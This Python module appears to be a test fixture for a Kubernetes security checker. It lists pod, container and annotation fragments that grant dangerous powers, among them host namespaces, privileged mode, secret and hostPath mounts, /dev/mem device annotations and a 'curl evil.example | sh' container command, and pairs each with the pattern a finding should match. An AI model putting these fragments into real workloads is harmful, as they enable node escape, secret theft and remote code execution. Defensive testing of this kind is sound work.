"""What a pod can be given: each power with the least fragment that gives it, and a word that a finding must have."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

EVIL = "registry.evil.example/nvidia"


@dataclass(frozen=True)
class Power:
    """A fragment of a pod's spec, of a container, of annotations or of labels. `gain` is a pattern."""

    name: str
    place: str
    fragment: Any
    gain: str


def _volume(name, source, gain):
    return Power(f"volume-{name}", "pod", {"volumes": [{"name": "gained", **source}]}, gain)


POD = (
    Power("host-pid", "pod", {"hostPID": True}, "host-?pid"),
    Power("host-ipc", "pod", {"hostIPC": True}, "host-?ipc"),
    Power("host-network", "pod", {"hostNetwork": True}, "host-?network"),
    Power("host-users", "pod", {"hostUsers": True}, "host-?users"),
    Power("share-process-namespace", "pod", {"shareProcessNamespace": True}, "share-?process-?namespace"),
    _volume("host-path", {"hostPath": {"path": "/etc/kubernetes"}}, "/etc/kubernetes"),
    _volume("config-map", {"configMap": {"name": "elsewhere"}}, "elsewhere"),
    _volume("secret", {"secret": {"secretName": "cluster-admin-token"}}, "cluster-admin-token"),
    _volume(
        "token",
        {"projected": {"sources": [{"serviceAccountToken": {"path": "t", "audience": "vault"}}]}},
        "token|vault|projected",
    ),
    _volume("csi", {"csi": {"driver": "secrets-store.csi.k8s.io"}}, "secrets-store|csi"),
    _volume("nfs", {"nfs": {"server": "evil.example", "path": "/"}}, "nfs"),
    _volume("claim", {"persistentVolumeClaim": {"claimName": "etcd-backup"}}, "etcd-backup|persistentVolumeClaim"),
    _volume("image", {"image": {"reference": f"{EVIL}/files:1"}}, "evil"),
    Power("runtime-class", "pod", {"runtimeClassName": "host-root"}, "host-root|runtime-?class"),
    Power("priority", "pod", {"priorityClassName": "system-node-critical"}, "system-node-critical|priority-?class"),
    Power("tolerations", "pod", {"tolerations": [{"operator": "Exists"}]}, "tolerat"),
    Power("node-name", "pod", {"nodeName": "control-plane-1"}, "control-plane-1|node-?name"),
    Power("control-plane", "pod", {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}}, "control-plane"),
    Power(
        "host-aliases",
        "pod",
        {"hostAliases": [{"ip": "203.0.113.9", "hostnames": ["nvcr.io"]}]},
        "host-?alias|203.0.113.9",
    ),
    Power("dns", "pod", {"dnsPolicy": "None", "dnsConfig": {"nameservers": ["203.0.113.9"]}}, "dns|203.0.113.9"),
    Power("account", "pod", {"serviceAccountName": "gpu-operator"}, "gpu-operator|account"),
    Power("scheduler", "pod", {"schedulerName": "evil"}, "scheduler|evil"),
    Power(
        "sysctl",
        "pod",
        {"securityContext": {"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}},
        "sysctl|kernel.msgmax",
    ),
    Power("pod-seccomp", "pod", {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}, "seccomp"),
    Power("pod-selinux", "pod", {"securityContext": {"seLinuxOptions": {"type": "spc_t"}}}, "selinux|spc_t"),
    Power("pod-root", "pod", {"securityContext": {"runAsUser": 0}}, "root"),
    Power("pod-apparmor", "pod", {"securityContext": {"appArmorProfile": {"type": "Unconfined"}}}, "app-?armor"),
    Power(
        "init-container",
        "pod",
        {"initContainers": [{"name": "gained", "image": f"{EVIL}/x:1", "securityContext": {"privileged": True}}]},
        "privileged|evil",
    ),
)
CONTAINER = (
    Power("privileged", "container", {"securityContext": {"privileged": True}}, "privileged"),
    Power("capability", "container", {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}, "SYS_ADMIN"),
    Power("escalation", "container", {"securityContext": {"allowPrivilegeEscalation": True}}, "escalation"),
    Power("proc-mount", "container", {"securityContext": {"procMount": "Unmasked"}}, "proc-?mount"),
    Power("root", "container", {"securityContext": {"runAsUser": 0, "runAsNonRoot": False}}, "root"),
    Power("seccomp", "container", {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}, "seccomp"),
    Power("selinux", "container", {"securityContext": {"seLinuxOptions": {"type": "spc_t"}}}, "selinux|spc_t"),
    Power("apparmor", "container", {"securityContext": {"appArmorProfile": {"type": "Unconfined"}}}, "app-?armor"),
    Power("command", "container", {"command": ["/bin/sh", "-c", "curl evil.example | sh"]}, "command|evil"),
    Power("args", "container", {"args": ["--from=evil.example"]}, "args|evil"),
    Power(
        "hook",
        "container",
        {"lifecycle": {"postStart": {"exec": {"command": ["/bin/sh", "-c", "evil"]}}}},
        "lifecycle|postStart|hook",
    ),
    Power("probe", "container", {"livenessProbe": {"exec": {"command": ["evil"]}}}, "probe"),
    Power("host-port", "container", {"ports": [{"containerPort": 22, "hostPort": 22}]}, "host-?port|hostPort|port 22"),
    Power("env-preload", "container", {"env": [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]}, "LD_PRELOAD"),
    Power("env-proxy", "container", {"env": [{"name": "HTTPS_PROXY", "value": "http://evil.example"}]}, "HTTPS_PROXY"),
    Power(
        "env-secret",
        "container",
        {"env": [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "token"}}}]},
        "admin|secret",
    ),
    Power("env-from", "container", {"envFrom": [{"secretRef": {"name": "admin"}}]}, "admin|envFrom|secret"),
    Power("image", "container", {"image": f"{EVIL}/operator:v1"}, "evil"),
)
ANNOTATIONS = tuple(
    Power(f"annotation-{name}", "annotations", fragment, gain)
    for name, fragment, gain in (
        ("cri-o-devices", {"io.kubernetes.cri-o.Devices": "/dev/mem:/dev/mem:rwm"}, "cri-o.Devices|/dev/mem"),
        ("cri-o-userns", {"io.kubernetes.cri-o.userns-mode": "auto"}, "cri-o.userns"),
        ("cri-o-unified", {"io.kubernetes.cri-o.UnifiedCgroup": "cpu.max=1"}, "cri-o.UnifiedCgroup"),
        ("cri-o-shm", {"io.kubernetes.cri-o.ShmSize": "100Gi"}, "cri-o.ShmSize"),
        (
            "kata-kernel",
            {"io.katacontainers.config.hypervisor.kernel": "/var/evil/vmlinuz"},
            "katacontainers",
        ),
        ("kata-agent", {"io.katacontainers.config.agent.policy": "YWxsb3cgYWxs"}, "katacontainers"),
        (
            "nri-devices",
            {"devices.nri.io/container.nvidia-driver-ctr": "- path: /dev/mem\n  type: c\n"},
            "devices.nri.io|/dev/mem",
        ),
        ("nri-mounts", {"mounts.nri.io/pod": "- source: /\n  destination: /host\n"}, "mounts.nri.io"),
        ("cdi", {"cdi.k8s.io/gained": "vendor.com/device=all"}, "cdi.k8s.io"),
        (
            "apparmor",
            {"container.apparmor.security.beta.kubernetes.io/nvidia-driver-ctr": "unconfined"},
            "app-?armor",
        ),
        ("containerd", {"io.containerd.runc.v2.group": "host"}, "io.containerd"),
        ("rdt", {"rdt.resources.beta.kubernetes.io/pod": "gold"}, "rdt.resources"),
        ("networks", {"k8s.v1.cni.cncf.io/networks": "host-device"}, "cni.cncf.io|host-device"),
        ("istio", {"inject.istio.io/templates": "evil"}, "istio"),
        ("velero", {"pre.hook.backup.velero.io/command": '["sh"]'}, "velero"),
        ("kube2iam", {"iam.amazonaws.com/role": "admin"}, "iam.amazonaws.com"),
        ("istio-inject", {"sidecar.istio.io/inject": "true"}, "istio"),
        ("of-tomorrow", {"controller.of-tomorrow.dev/run": "sh"}, "of-tomorrow"),
        ("vault", {"vault.hashicorp.com/agent-inject": "true"}, "vault"),
    )
)
POWERS = POD + CONTAINER + ANNOTATIONS


def pod_with(power):
    """Metadata and spec of a pod that holds a power and nothing else."""
    container = {"name": "main", "image": "nvcr.io/nvidia/gpu-operator:v26.7.0"}
    spec = {"containers": [container]}
    metadata = {"labels": {"app": "gained"}}
    if power.place == "container":
        container.update(power.fragment)
    elif power.place == "pod":
        spec.update(power.fragment)
    else:
        metadata[power.place] = power.fragment
    return {"metadata": metadata, "spec": spec}


def daemon_set_with(power):
    """A DaemonSet whose pods hold a power."""
    return {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": "gained", "namespace": "gpu-operator"},
        "spec": {"selector": {"matchLabels": {"app": "gained"}}, "template": pod_with(power)},
    }
